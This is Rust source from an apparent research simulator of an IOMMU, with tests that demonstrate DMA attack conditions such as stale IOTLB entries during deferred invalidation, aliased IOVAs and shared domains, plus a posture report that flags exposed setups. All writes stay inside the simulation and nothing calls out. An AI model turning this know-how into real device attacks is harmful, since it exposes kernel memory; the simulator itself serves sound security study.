        let m = dma_map_single(&mut ctx, &mut iommu, &mem.layout, 1, buf, size, DmaDirection::FromDevice, "prop").unwrap();
        iommu.dev_write(&mut ctx, &mut mem.phys, 1, Iova(m.iova.raw() + off as u64), &data).unwrap();
        let mut back = vec![0u8; data.len()];
        mem.cpu_read(&mut ctx, dma_core::Kva(buf.raw() + off as u64), &mut back, "prop").unwrap();
        prop_assert_eq!(back, data);
    }

    #[test]
    fn deferred_window_always_closes(latency_us in 0u64..20_000) {
        // Whatever the timing, a stale translation must be dead after
        // one full flush period.
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig { mode: InvalidationMode::Deferred, ..Default::default() });
        iommu.attach_device(1);
        let buf = mem.kmalloc(&mut ctx, 512, "prop").unwrap();
        let m = dma_map_single(&mut ctx, &mut iommu, &mem.layout, 1, buf, 512, DmaDirection::FromDevice, "prop").unwrap();
        iommu.dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"x").unwrap();
        dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
        ctx.clock.advance_us(latency_us);
        let poked = iommu.dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"y");
        // Within the window it may succeed; past it, it must not.
        if latency_us > 10_000 {
            prop_assert!(poked.is_err());
        }
        ctx.clock.advance_us(10_001);
        prop_assert!(iommu.dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"z").is_err());
    }
}
