//! The IOMMU façade: per-device domains, the device DMA access path, and
//! both invalidation policies.
//!
//! Every device access in the workspace funnels through
//! [`Iommu::dev_read`] / [`Iommu::dev_write`] — there is no back door.
//! This enforces the paper's threat model (§3.1): the attacker is a
//! device and can only reach memory the IOMMU (including its stale IOTLB
//! entries) lets it reach.

use crate::iotlb::Iotlb;
use crate::iova::IovaAllocator;
use crate::pagetable::IoPageTable;
use dma_core::clock::{
    Cycles, DEFERRED_FLUSH_PERIOD, DMA_ACCESS_CYCLES, IOTLB_HIT_CYCLES, IOTLB_INV_CYCLES,
    PT_WALK_CYCLES,
};
use dma_core::metrics::Histogram;
use dma_core::posture::{GroupPosture, PostureReport, StaleWindowStats};
use dma_core::trace::DeviceId;
use dma_core::{AccessRight, DmaError, Event, Iova, Pfn, Result, SimCtx, PAGE_SIZE};
use sim_mem::PhysMemory;
use std::collections::HashMap;

/// IOTLB invalidation policy (§5.2.1, Figure 6).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum InvalidationMode {
    /// Invalidate the IOTLB entry on every unmap (secure, slow).
    Strict,
    /// Leave entries stale and flush globally every
    /// [`DEFERRED_FLUSH_PERIOD`] cycles (the Linux default; fast, leaves
    /// the deferred window open).
    Deferred,
}

/// IOMMU configuration.
#[derive(Clone, Copy, Debug)]
pub struct IommuConfig {
    /// Invalidation policy.
    pub mode: InvalidationMode,
    /// Deferred-mode global flush period in cycles.
    pub flush_period: Cycles,
    /// IOTLB capacity in entries.
    pub iotlb_capacity: usize,
}

impl Default for IommuConfig {
    fn default() -> Self {
        IommuConfig {
            mode: InvalidationMode::Deferred,
            flush_period: DEFERRED_FLUSH_PERIOD,
            iotlb_capacity: 4096,
        }
    }
}

/// Counters for the Figure-6 overhead comparison.
#[derive(Clone, Copy, Debug, Default)]
pub struct IommuStats {
    /// Individual IOTLB invalidations performed (strict mode).
    pub invalidations: u64,
    /// Global flushes performed (deferred mode).
    pub global_flushes: u64,
    /// Cycles spent invalidating.
    pub invalidation_cycles: Cycles,
    /// Device accesses served from stale IOTLB entries.
    pub stale_hits: u64,
    /// Faulted device accesses.
    pub faults: u64,
    /// Total pages mapped over the IOMMU's lifetime.
    pub pages_mapped: u64,
}

/// One recorded translation fault, in the style of the VT-d fault
/// recording registers: who faulted, where, and when. The OS (or a
/// monitoring defense) drains these to spot devices probing memory they
/// were never given.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct FaultRecord {
    /// Faulting device.
    pub device: DeviceId,
    /// Faulting IOVA.
    pub iova: Iova,
    /// `true` for a write access.
    pub write: bool,
    /// Timestamp in simulated cycles.
    pub at: Cycles,
}

#[derive(Clone, Debug, Default)]
struct Domain {
    pt: IoPageTable,
    iova: IovaAllocator,
    /// IOVA ranges whose release is deferred to the next global flush,
    /// stamped with the unmap time so the flush can report how long each
    /// stale window stayed open (§5.2.1).
    deferred_free: Vec<(Iova, usize, Cycles)>,
}

/// The simulated IOMMU.
#[derive(Clone, Debug)]
pub struct Iommu {
    /// Active configuration.
    pub config: IommuConfig,
    /// Counters.
    pub stats: IommuStats,
    /// Device → translation domain. Several devices may share one
    /// domain (as the paper's §6 rig shares an IOVA page table between
    /// the FireWire controller and the NIC).
    device_domain: HashMap<DeviceId, u32>,
    domains: HashMap<u32, Domain>,
    next_domain: u32,
    iotlb: Iotlb,
    next_flush: Cycles,
    /// Ring of the most recent faults (VT-d fault recording registers).
    fault_log: std::collections::VecDeque<FaultRecord>,
}

/// Capacity of the fault-record ring.
const FAULT_LOG_CAPACITY: usize = 256;

impl Iommu {
    /// Creates an IOMMU with the given policy.
    pub fn new(config: IommuConfig) -> Self {
        Iommu {
            iotlb: Iotlb::new(config.iotlb_capacity),
            device_domain: HashMap::new(),
            domains: HashMap::new(),
            next_domain: 0,
            next_flush: config.flush_period,
            stats: IommuStats::default(),
            fault_log: std::collections::VecDeque::new(),
            config,
        }
    }

    /// Read-only view of the recorded faults (most recent last).
    pub fn fault_log(&self) -> impl Iterator<Item = &FaultRecord> {
        self.fault_log.iter()
    }

    /// Drains the fault log (what the OS fault handler does).
    pub fn drain_faults(&mut self) -> Vec<FaultRecord> {
        self.fault_log.drain(..).collect()
    }

    /// Creates a fresh translation domain for `dev`. Idempotent.
    pub fn attach_device(&mut self, dev: DeviceId) {
        if self.device_domain.contains_key(&dev) {
            return;
        }
        let id = self.next_domain;
        self.next_domain += 1;
        self.device_domain.insert(dev, id);
        self.domains.insert(id, Domain::default());
    }

    /// Attaches `dev` to the *same* domain as `peer` — the two devices
    /// then share one IOVA page table, as in the paper's §6 test rig
    /// ("an IOVA page table that is shared between the FireWire and the
    /// actual NIC"). `peer` must already be attached.
    pub fn attach_device_shared(&mut self, dev: DeviceId, peer: DeviceId) -> Result<()> {
        let id = *self
            .device_domain
            .get(&peer)
            .ok_or(DmaError::Invariant("peer device not attached to IOMMU"))?;
        self.device_domain.insert(dev, id);
        Ok(())
    }

    /// `true` if the two devices translate through one domain.
    pub fn same_domain(&self, a: DeviceId, b: DeviceId) -> bool {
        match (self.device_domain.get(&a), self.device_domain.get(&b)) {
            (Some(x), Some(y)) => x == y,
            _ => false,
        }
    }

    fn domain_id(&self, dev: DeviceId) -> Result<u32> {
        self.device_domain
            .get(&dev)
            .copied()
            .ok_or(DmaError::Invariant("device not attached to IOMMU"))
    }

    fn domain_mut(&mut self, dev: DeviceId) -> Result<&mut Domain> {
        let id = self.domain_id(dev)?;
        self.domains
            .get_mut(&id)
            .ok_or(DmaError::Invariant("device not attached to IOMMU"))
    }

    /// Allocates an IOVA range of `pages` pages in `dev`'s domain.
    ///
    /// Fault-injection site `sim_iommu.alloc_iova`: an injected hit
    /// models IOVA-space exhaustion (`OutOfIova`) before the allocator
    /// is consulted.
    pub fn alloc_iova(&mut self, ctx: &mut SimCtx, dev: DeviceId, pages: usize) -> Result<Iova> {
        ctx.metrics.incr("sim_iommu.iova.alloc");
        if ctx.fault("sim_iommu.alloc_iova") {
            return Err(DmaError::OutOfIova);
        }
        let d = self.domain_mut(dev)?;
        let iova = d.iova.alloc(pages)?;
        ctx.metrics
            .gauge_set("sim_iommu.iova.live", d.iova.live_ranges() as u64);
        Ok(iova)
    }

    /// Installs a translation for one page.
    pub fn map_page(
        &mut self,
        dev: DeviceId,
        iova: Iova,
        pfn: Pfn,
        right: AccessRight,
    ) -> Result<()> {
        let d = self.domain_mut(dev)?;
        d.pt.map(iova, pfn, right)?;
        self.stats.pages_mapped += 1;
        Ok(())
    }

    /// Tears down the translations for a `pages`-page range starting at
    /// the page containing `iova`, applying the configured invalidation
    /// policy, and releases the IOVA range.
    pub fn unmap_range(
        &mut self,
        ctx: &mut SimCtx,
        dev: DeviceId,
        iova: Iova,
        pages: usize,
    ) -> Result<()> {
        let mode = self.config.mode;
        let base = iova.page_align_down();
        ctx.metrics.add("sim_iommu.unmap.pages", pages as u64);
        for i in 0..pages {
            let page_iova = Iova(base.raw() + (i * PAGE_SIZE) as u64);
            let d = self.domain_mut(dev)?;
            d.pt.unmap(page_iova)?;
            // Invalidation is per *domain*: every device sharing the
            // page table must lose (or keep-stale) its cached entry.
            let id = self.domain_id(dev)?;
            let peers: Vec<DeviceId> = self
                .device_domain
                .iter()
                .filter(|(_, did)| **did == id)
                .map(|(d, _)| *d)
                .collect();
            match mode {
                InvalidationMode::Strict => {
                    // The synchronous per-page invalidation is the
                    // strict-mode cost center ROADMAP item 4 targets;
                    // give it its own profile frame inside iommu.unmap.
                    let frame = ctx.prof_begin("iommu.iotlb.inv");
                    for peer in peers {
                        self.iotlb.invalidate(peer, page_iova);
                    }
                    self.stats.invalidations += 1;
                    self.stats.invalidation_cycles += IOTLB_INV_CYCLES;
                    ctx.metrics.incr("sim_iommu.iotlb.invalidate");
                    ctx.clock.advance(IOTLB_INV_CYCLES);
                    ctx.prof_end(frame);
                    ctx.emit(Event::IotlbInvalidate {
                        at: ctx.clock.now(),
                        device: dev,
                        iova_page: page_iova,
                    });
                }
                InvalidationMode::Deferred => {
                    for peer in peers {
                        self.iotlb.mark_stale(peer, page_iova);
                    }
                }
            }
        }
        let d = self.domain_mut(dev)?;
        // Ranges mapped via map_page() directly (rather than through the
        // DMA API) were never IOVA-allocated; skip releasing those.
        if d.iova.is_live(base) {
            match mode {
                InvalidationMode::Strict => d.iova.free(base, pages)?,
                InvalidationMode::Deferred => {
                    let at = ctx.clock.now();
                    d.deferred_free.push((base, pages, at));
                }
            }
        }
        Ok(())
    }

    /// Runs deferred housekeeping: performs the periodic global flush if
    /// its deadline has passed. Called implicitly by every device access
    /// and explicitly by schedulers.
    pub fn tick(&mut self, ctx: &mut SimCtx) {
        if self.config.mode != InvalidationMode::Deferred {
            return;
        }
        while ctx.clock.now() >= self.next_flush {
            // Fault-injection site `sim_iommu.flush_jitter`: delays the
            // periodic flush by a quarter period, widening the stale
            // window (flush-timer jitter under load). Terminates because
            // every hit pushes the deadline forward.
            if ctx.fault("sim_iommu.flush_jitter") {
                self.next_flush += (self.config.flush_period / 4).max(1);
                continue;
            }
            let frame = ctx.prof_begin("iommu.iotlb.flush");
            let dropped = self.iotlb.global_flush();
            self.stats.global_flushes += 1;
            self.stats.invalidation_cycles += IOTLB_INV_CYCLES;
            ctx.metrics.incr("sim_iommu.iotlb.flush.global");
            ctx.metrics
                .observe("sim_iommu.iotlb.flush.dropped", dropped as u64);
            ctx.clock.advance(IOTLB_INV_CYCLES);
            ctx.emit(Event::IotlbGlobalFlush {
                at: ctx.clock.now(),
                dropped,
            });
            let flushed_at = ctx.clock.now();
            for (id, domain) in self.domains.iter_mut() {
                let _ = id;
                for (base, pages, unmapped_at) in domain.deferred_free.drain(..) {
                    // The stale window of §5.2.1: unmap → global flush.
                    ctx.metrics.observe(
                        "sim_iommu.stale_window.cycles",
                        flushed_at.saturating_sub(unmapped_at),
                    );
                    // IOVA release is deferred together with invalidation.
                    let _ = domain.iova.free(base, pages);
                }
            }
            ctx.prof_end(frame);
            self.next_flush += self.config.flush_period;
        }
    }

    /// Translates one page for a device access, consulting the IOTLB
    /// first (including stale entries — that is the point).
    ///
    /// Returns `(pfn, stale)`.
    fn translate(
        &mut self,
        ctx: &mut SimCtx,
        dev: DeviceId,
        iova: Iova,
        write: bool,
    ) -> Result<(Pfn, bool)> {
        ctx.prof("iommu.iotlb.probe", |ctx| {
            self.translate_inner(ctx, dev, iova, write)
        })
    }

    fn translate_inner(
        &mut self,
        ctx: &mut SimCtx,
        dev: DeviceId,
        iova: Iova,
        write: bool,
    ) -> Result<(Pfn, bool)> {
        // Fault-injection site `sim_iommu.iotlb_evict`: drop the cached
        // translation before the lookup, forcing a page-table walk —
        // capacity eviction under adversarial IOTLB pressure. Note this
        // *closes* stale windows early rather than opening them, so it
        // perturbs timing without weakening any security invariant.
        if ctx.fault("sim_iommu.iotlb_evict") {
            self.iotlb.invalidate(dev, iova.page_align_down());
        }
        if let Some(e) = self.iotlb.lookup(dev, iova) {
            ctx.clock.advance(IOTLB_HIT_CYCLES);
            ctx.metrics.incr("sim_iommu.iotlb.hit");
            let ok = if write {
                e.right.allows_write()
            } else {
                e.right.allows_read()
            };
            if !ok {
                return Err(DmaError::IommuPermission {
                    device: dev,
                    iova: iova.raw(),
                    write,
                });
            }
            if e.stale {
                self.stats.stale_hits += 1;
                ctx.metrics.incr("sim_iommu.iotlb.stale_hit");
            }
            return Ok((e.pfn, e.stale));
        }
        ctx.clock.advance(PT_WALK_CYCLES);
        ctx.metrics.incr("sim_iommu.iotlb.miss");
        let id = self.domain_id(dev)?;
        let d = self
            .domains
            .get(&id)
            .ok_or(DmaError::Invariant("device not attached to IOMMU"))?;
        let pte = d.pt.walk(iova).ok_or(DmaError::IommuFault {
            device: dev,
            iova: iova.raw(),
            write,
        })?;
        let ok = if write {
            pte.right.allows_write()
        } else {
            pte.right.allows_read()
        };
        if !ok {
            return Err(DmaError::IommuPermission {
                device: dev,
                iova: iova.raw(),
                write,
            });
        }
        self.iotlb.fill(dev, iova, pte.pfn, pte.right);
        Ok((pte.pfn, false))
    }

    /// Device DMA read of `buf.len()` bytes at `iova`. May cross pages;
    /// each page is translated (and permission-checked) independently.
    pub fn dev_read(
        &mut self,
        ctx: &mut SimCtx,
        phys: &PhysMemory,
        dev: DeviceId,
        iova: Iova,
        buf: &mut [u8],
    ) -> Result<()> {
        self.dev_access(ctx, dev, iova, buf.len(), false, |pa, n, done| {
            phys.read(pa, &mut buf[done..done + n])
        })
    }

    /// Device DMA write of `buf` at `iova`.
    pub fn dev_write(
        &mut self,
        ctx: &mut SimCtx,
        phys: &mut PhysMemory,
        dev: DeviceId,
        iova: Iova,
        buf: &[u8],
    ) -> Result<()> {
        self.dev_access(ctx, dev, iova, buf.len(), true, |pa, n, done| {
            phys.write(pa, &buf[done..done + n])
        })
    }

    fn dev_access(
        &mut self,
        ctx: &mut SimCtx,
        dev: DeviceId,
        iova: Iova,
        len: usize,
        write: bool,
        xfer: impl FnMut(dma_core::PhysAddr, usize, usize) -> Result<()>,
    ) -> Result<()> {
        ctx.prof("iommu.dev_access", |ctx| {
            self.dev_access_inner(ctx, dev, iova, len, write, xfer)
        })
    }

    fn dev_access_inner(
        &mut self,
        ctx: &mut SimCtx,
        dev: DeviceId,
        iova: Iova,
        len: usize,
        write: bool,
        mut xfer: impl FnMut(dma_core::PhysAddr, usize, usize) -> Result<()>,
    ) -> Result<()> {
        self.tick(ctx);
        ctx.clock.advance(DMA_ACCESS_CYCLES);
        let mut done = 0;
        let mut any_stale = false;
        while done < len {
            let cur = Iova(iova.raw() + done as u64);
            let off = cur.page_offset();
            let n = (PAGE_SIZE - off).min(len - done);
            let (pfn, stale) = match self.translate(ctx, dev, cur, write) {
                Ok(v) => v,
                Err(e) => {
                    self.stats.faults += 1;
                    ctx.metrics.incr("sim_iommu.fault.count");
                    if self.fault_log.len() == FAULT_LOG_CAPACITY {
                        self.fault_log.pop_front();
                    }
                    self.fault_log.push_back(FaultRecord {
                        device: dev,
                        iova,
                        write,
                        at: ctx.clock.now(),
                    });
                    ctx.emit(Event::DevAccess {
                        at: ctx.clock.now(),
                        device: dev,
                        iova,
                        len,
                        write,
                        allowed: false,
                        stale: false,
                    });
                    return Err(e);
                }
            };
            any_stale |= stale;
            let pa = dma_core::PhysAddr(pfn.base().raw() + off as u64);
            xfer(pa, n, done)?;
            done += n;
        }
        ctx.emit(Event::DevAccess {
            at: ctx.clock.now(),
            device: dev,
            iova,
            len,
            write,
            allowed: true,
            stale: any_stale,
        });
        Ok(())
    }

    /// Device read of a little-endian u64.
    pub fn dev_read_u64(
        &mut self,
        ctx: &mut SimCtx,
        phys: &PhysMemory,
        dev: DeviceId,
        iova: Iova,
    ) -> Result<u64> {
        let mut b = [0u8; 8];
        self.dev_read(ctx, phys, dev, iova, &mut b)?;
        Ok(u64::from_le_bytes(b))
    }

    /// Device write of a little-endian u64.
    pub fn dev_write_u64(
        &mut self,
        ctx: &mut SimCtx,
        phys: &mut PhysMemory,
        dev: DeviceId,
        iova: Iova,
        v: u64,
    ) -> Result<()> {
        self.dev_write(ctx, phys, dev, iova, &v.to_le_bytes())
    }

    /// All live IOVAs translating to `pfn` in `dev`'s domain (diagnostic;
    /// used by D-KASAN's multiple-map detection and tests).
    pub fn iovas_of(&self, dev: DeviceId, pfn: Pfn) -> Vec<(Iova, AccessRight)> {
        self.domain_id(dev)
            .ok()
            .and_then(|id| self.domains.get(&id))
            .map(|d| d.pt.iovas_of(pfn))
            .unwrap_or_default()
    }

    /// Number of pages currently mapped in `dev`'s domain.
    pub fn mapped_pages(&self, dev: DeviceId) -> usize {
        self.domain_id(dev)
            .ok()
            .and_then(|id| self.domains.get(&id))
            .map(|d| d.pt.mapped_pages())
            .unwrap_or(0)
    }

    /// Read-only view of the IOTLB (tests and experiments).
    pub fn iotlb(&self) -> &Iotlb {
        &self.iotlb
    }

    /// Simulated `/sys/kernel/iommu_groups`: one entry per translation
    /// domain, with its attached devices and live-mapping counts.
    /// Deterministically ordered (domains by id, devices sorted) so the
    /// posture report renders byte-identically per seed.
    pub fn groups(&self) -> Vec<GroupPosture> {
        let mut out: Vec<GroupPosture> = self
            .domains
            .iter()
            .map(|(&id, d)| {
                let mut devices: Vec<DeviceId> = self
                    .device_domain
                    .iter()
                    .filter(|(_, &dom)| dom == id)
                    .map(|(&dev, _)| dev)
                    .collect();
                devices.sort_unstable();
                GroupPosture {
                    domain: id,
                    devices,
                    mapped_pages: d.pt.mapped_pages(),
                    live_iovas: d.iova.live_ranges(),
                    deferred_pending: d.deferred_free.len(),
                }
            })
            .collect();
        out.sort_unstable_by_key(|g| g.domain);
        out
    }

    /// Assembles an `iommu_status.py`-style [`PostureReport`] from the
    /// live IOMMU state: invalidation policy, isolation groups, and the
    /// accumulated stale/fault counters. The caller supplies what the
    /// IOMMU cannot see — the driver's RX buffer size (the sub-page
    /// sharing surface) and the observed §5.2.1 stale-window histogram
    /// (`sim_iommu.stale_window.cycles`) — and gets back a fully
    /// [`assessed`](PostureReport::assess) report.
    pub fn posture(
        &self,
        label: &str,
        rx_buf_size: usize,
        stale_window: Option<&Histogram>,
    ) -> PostureReport {
        let invalidation = match self.config.mode {
            InvalidationMode::Strict => "strict",
            InvalidationMode::Deferred => "deferred",
        };
        let mut report = PostureReport::new(label, invalidation);
        report.flush_period = match self.config.mode {
            InvalidationMode::Strict => 0,
            InvalidationMode::Deferred => self.config.flush_period,
        };
        report.iotlb_capacity = self.config.iotlb_capacity;
        report.groups = self.groups();
        report.rx_buf_size = rx_buf_size;
        report.stale_window = stale_window.and_then(StaleWindowStats::from_histogram);
        report.stale_hits = self.stats.stale_hits;
        report.faults = self.stats.faults;
        report.assess();
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::PhysAddr;

    fn setup(mode: InvalidationMode) -> (SimCtx, PhysMemory, Iommu) {
        let ctx = SimCtx::new();
        let phys = PhysMemory::new(16 << 20);
        let iommu = Iommu::new(IommuConfig {
            mode,
            ..Default::default()
        });
        (ctx, phys, iommu)
    }

    #[test]
    fn mapped_page_is_accessible_with_correct_rights() {
        let (mut ctx, mut phys, mut iommu) = setup(InvalidationMode::Strict);
        iommu.attach_device(1);
        iommu
            .map_page(1, Iova(0x10000), Pfn(5), AccessRight::Write)
            .unwrap();
        iommu
            .dev_write(&mut ctx, &mut phys, 1, Iova(0x10010), b"attack")
            .unwrap();
        let mut b = [0u8; 6];
        phys.read(PhysAddr(5 * PAGE_SIZE as u64 + 0x10), &mut b)
            .unwrap();
        assert_eq!(&b, b"attack");
        // WRITE does not grant READ (§2.2).
        let mut r = [0u8; 4];
        assert!(matches!(
            iommu.dev_read(&mut ctx, &phys, 1, Iova(0x10010), &mut r),
            Err(DmaError::IommuPermission { .. })
        ));
        assert_eq!(iommu.stats.faults, 1);
    }

    #[test]
    fn unmapped_access_faults() {
        let (mut ctx, phys, mut iommu) = setup(InvalidationMode::Strict);
        iommu.attach_device(1);
        let mut b = [0u8; 4];
        assert!(matches!(
            iommu.dev_read(&mut ctx, &phys, 1, Iova(0x9000), &mut b),
            Err(DmaError::IommuFault { .. })
        ));
    }

    #[test]
    fn strict_unmap_revokes_immediately() {
        let (mut ctx, mut phys, mut iommu) = setup(InvalidationMode::Strict);
        iommu.attach_device(1);
        iommu
            .map_page(1, Iova(0x10000), Pfn(5), AccessRight::Write)
            .unwrap();
        iommu
            .dev_write(&mut ctx, &mut phys, 1, Iova(0x10000), b"x")
            .unwrap(); // fills IOTLB
        iommu.unmap_range(&mut ctx, 1, Iova(0x10000), 1).unwrap();
        assert!(iommu
            .dev_write(&mut ctx, &mut phys, 1, Iova(0x10000), b"y")
            .is_err());
        assert_eq!(iommu.stats.invalidations, 1);
    }

    #[test]
    fn deferred_unmap_leaves_stale_window_then_flushes() {
        // Figure 6: the data stays device-accessible after unmap until the
        // periodic flush.
        let (mut ctx, mut phys, mut iommu) = setup(InvalidationMode::Deferred);
        iommu.attach_device(1);
        iommu
            .map_page(1, Iova(0x10000), Pfn(5), AccessRight::Write)
            .unwrap();
        iommu
            .dev_write(&mut ctx, &mut phys, 1, Iova(0x10000), b"x")
            .unwrap();
        iommu.unmap_range(&mut ctx, 1, Iova(0x10000), 1).unwrap();

        // Inside the window: the stale IOTLB entry still answers.
        iommu
            .dev_write(&mut ctx, &mut phys, 1, Iova(0x10000), b"evil")
            .unwrap();
        assert_eq!(iommu.stats.stale_hits, 1);

        // After the flush period the access faults.
        ctx.clock.advance(DEFERRED_FLUSH_PERIOD + 1);
        assert!(iommu
            .dev_write(&mut ctx, &mut phys, 1, Iova(0x10000), b"late")
            .is_err());
        assert_eq!(iommu.stats.global_flushes, 1);
    }

    #[test]
    fn deferred_window_closed_if_iotlb_cold() {
        // If the device never touched the mapping, there is no stale entry
        // to exploit: the cleared page table faults the access.
        let (mut ctx, mut phys, mut iommu) = setup(InvalidationMode::Deferred);
        iommu.attach_device(1);
        iommu
            .map_page(1, Iova(0x10000), Pfn(5), AccessRight::Write)
            .unwrap();
        iommu.unmap_range(&mut ctx, 1, Iova(0x10000), 1).unwrap();
        assert!(iommu
            .dev_write(&mut ctx, &mut phys, 1, Iova(0x10000), b"x")
            .is_err());
    }

    #[test]
    fn neighbor_iova_still_maps_page_after_strict_unmap() {
        // Type (c): two IOVAs alias one frame; strict-unmapping the first
        // leaves the second fully usable.
        let (mut ctx, mut phys, mut iommu) = setup(InvalidationMode::Strict);
        iommu.attach_device(1);
        iommu
            .map_page(1, Iova(0x10000), Pfn(5), AccessRight::Write)
            .unwrap();
        iommu
            .map_page(1, Iova(0x20000), Pfn(5), AccessRight::Write)
            .unwrap();
        iommu.unmap_range(&mut ctx, 1, Iova(0x10000), 1).unwrap();
        iommu
            .dev_write(&mut ctx, &mut phys, 1, Iova(0x20000), b"still here")
            .unwrap();
        let mut b = [0u8; 10];
        phys.read(PhysAddr(5 * PAGE_SIZE as u64), &mut b).unwrap();
        assert_eq!(&b, b"still here");
    }

    #[test]
    fn cross_page_access_needs_both_pages_mapped() {
        let (mut ctx, mut phys, mut iommu) = setup(InvalidationMode::Strict);
        iommu.attach_device(1);
        iommu
            .map_page(1, Iova(0x10000), Pfn(5), AccessRight::Write)
            .unwrap();
        // Write straddling into the unmapped next page must fault.
        let near_end = Iova(0x10000 + PAGE_SIZE as u64 - 2);
        assert!(iommu
            .dev_write(&mut ctx, &mut phys, 1, near_end, b"abcd")
            .is_err());
        // Map the neighbour and retry.
        iommu
            .map_page(1, Iova(0x11000), Pfn(6), AccessRight::Write)
            .unwrap();
        iommu
            .dev_write(&mut ctx, &mut phys, 1, near_end, b"abcd")
            .unwrap();
    }

    #[test]
    fn devices_are_isolated_by_domain() {
        let (mut ctx, mut phys, mut iommu) = setup(InvalidationMode::Strict);
        iommu.attach_device(1);
        iommu.attach_device(2);
        iommu
            .map_page(1, Iova(0x10000), Pfn(5), AccessRight::Bidirectional)
            .unwrap();
        assert!(iommu
            .dev_write(&mut ctx, &mut phys, 2, Iova(0x10000), b"x")
            .is_err());
    }

    #[test]
    fn strict_costs_invalidation_cycles_per_unmap() {
        let (mut ctx, _phys, mut iommu) = setup(InvalidationMode::Strict);
        iommu.attach_device(1);
        for i in 0..10u64 {
            iommu
                .map_page(
                    1,
                    Iova(0x10000 + i * 0x1000),
                    Pfn(5 + i),
                    AccessRight::Write,
                )
                .unwrap();
        }
        let before = ctx.clock.now();
        iommu.unmap_range(&mut ctx, 1, Iova(0x10000), 10).unwrap();
        assert_eq!(ctx.clock.now() - before, 10 * IOTLB_INV_CYCLES);
        assert_eq!(iommu.stats.invalidation_cycles, 10 * IOTLB_INV_CYCLES);
    }

    #[test]
    fn deferred_unmap_is_cheap() {
        let (mut ctx, _phys, mut iommu) = setup(InvalidationMode::Deferred);
        iommu.attach_device(1);
        for i in 0..10u64 {
            iommu
                .map_page(
                    1,
                    Iova(0x10000 + i * 0x1000),
                    Pfn(5 + i),
                    AccessRight::Write,
                )
                .unwrap();
        }
        let before = ctx.clock.now();
        iommu.unmap_range(&mut ctx, 1, Iova(0x10000), 10).unwrap();
        assert_eq!(
            ctx.clock.now(),
            before,
            "no invalidation cost at unmap time"
        );
    }

    #[test]
    fn groups_enumerate_domains_deterministically() {
        let (mut ctx, _phys, mut iommu) = setup(InvalidationMode::Deferred);
        iommu.attach_device(3);
        iommu.attach_device(1);
        iommu.attach_device_shared(7, 3).unwrap();
        iommu
            .map_page(1, Iova(0x10000), Pfn(5), AccessRight::Read)
            .unwrap();
        let iova = iommu.alloc_iova(&mut ctx, 1, 1).unwrap();
        iommu.map_page(1, iova, Pfn(6), AccessRight::Read).unwrap();
        iommu.unmap_range(&mut ctx, 1, iova, 1).unwrap();
        let groups = iommu.groups();
        assert_eq!(groups.len(), 2);
        assert!(groups.windows(2).all(|w| w[0].domain < w[1].domain));
        let shared = groups.iter().find(|g| g.devices.len() == 2).unwrap();
        assert_eq!(shared.devices, vec![3, 7], "devices sorted");
        let solo = groups.iter().find(|g| g.devices == vec![1]).unwrap();
        assert_eq!(solo.mapped_pages, 1);
        assert_eq!(solo.deferred_pending, 1, "deferred unmap still pending");
    }

    #[test]
    fn posture_distinguishes_strict_from_deferred() {
        for (mode, inval, grade_expected) in [
            (InvalidationMode::Strict, "strict", "hardened"),
            (InvalidationMode::Deferred, "deferred", "exposed"),
        ] {
            let (_ctx, _phys, mut iommu) = setup(mode);
            iommu.attach_device(1);
            let r = iommu.posture("unit", PAGE_SIZE, None);
            assert_eq!(r.invalidation, inval);
            assert_eq!(r.grade, grade_expected, "mode {inval}");
            if inval == "deferred" {
                assert!(r.flush_period > 0);
                let f = &r.findings[0];
                assert_eq!(f.code, "stale-translation-window");
                assert!(f.detail.contains("5.2.1"));
            } else {
                assert_eq!(r.flush_period, 0);
            }
        }
    }

    #[test]
    fn posture_reflects_observed_stale_windows_and_shared_domains() {
        let (mut ctx, mut phys, mut iommu) = setup(InvalidationMode::Deferred);
        iommu.attach_device(1);
        iommu.attach_device_shared(2, 1).unwrap();
        let iova = iommu.alloc_iova(&mut ctx, 1, 1).unwrap();
        iommu.map_page(1, iova, Pfn(5), AccessRight::Write).unwrap();
        iommu.dev_write(&mut ctx, &mut phys, 1, iova, b"x").unwrap();
        iommu.unmap_range(&mut ctx, 1, iova, 1).unwrap();
        // Stale IOTLB entry still serves the device until the flush.
        iommu.dev_write(&mut ctx, &mut phys, 1, iova, b"y").unwrap();
        ctx.clock.advance(iommu.config.flush_period);
        iommu.tick(&mut ctx);
        let hist = ctx
            .metrics
            .histogram("sim_iommu.stale_window.cycles")
            .cloned()
            .expect("flush observed the window");
        let r = iommu.posture("rig", 2048, Some(&hist));
        assert_eq!(r.grade, "exposed");
        let codes: Vec<&str> = r.findings.iter().map(|f| f.code).collect();
        assert!(codes.contains(&"stale-translation-window"));
        assert!(codes.contains(&"stale-hits-observed"));
        assert!(codes.contains(&"shared-domain"));
        assert!(codes.contains(&"subpage-sharing"));
        let w = r.stale_window.expect("window stats present");
        assert!(w.count >= 1 && w.max_cycles > 0);
        // Deterministic rendering.
        assert_eq!(
            r.to_json(),
            iommu.posture("rig", 2048, Some(&hist)).to_json()
        );
    }
}
