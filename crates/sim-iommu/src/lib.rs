//! A simulated IOMMU in the style of Intel VT-d, as used by Linux.
//!
//! The three properties the paper's attacks rest on are all first-class
//! here:
//!
//! 1. **Page granularity** (§3.2): protection is per 4 KiB page. Mapping
//!    any buffer exposes every byte of every page it touches.
//! 2. **Deferred IOTLB invalidation** (§5.2.1, Figure 6): in the default
//!    *deferred* mode, `dma_unmap` clears the page-table entry but the
//!    IOTLB keeps serving the stale translation until the next periodic
//!    global flush (up to 10 ms later).
//! 3. **Multiple IOVAs per page** (type (c), Figure 1): nothing stops two
//!    live mappings from naming the same frame; unmapping one does not
//!    revoke the other.
//!
//! Modules:
//! - [`pagetable`] — a 4-level radix page table with per-entry rights.
//! - [`iova`] — the per-domain IOVA range allocator (top-down, like
//!   Linux's caching allocator).
//! - [`iotlb`] — the translation cache and both invalidation policies.
//! - [`iommu`] — the [`Iommu`] façade: domains, translation, the device
//!   DMA access path, and fault reporting.
//! - [`dma_api`] — the Linux DMA API surface drivers call
//!   (`dma_map_single` & friends).

pub mod dma_api;
pub mod iommu;
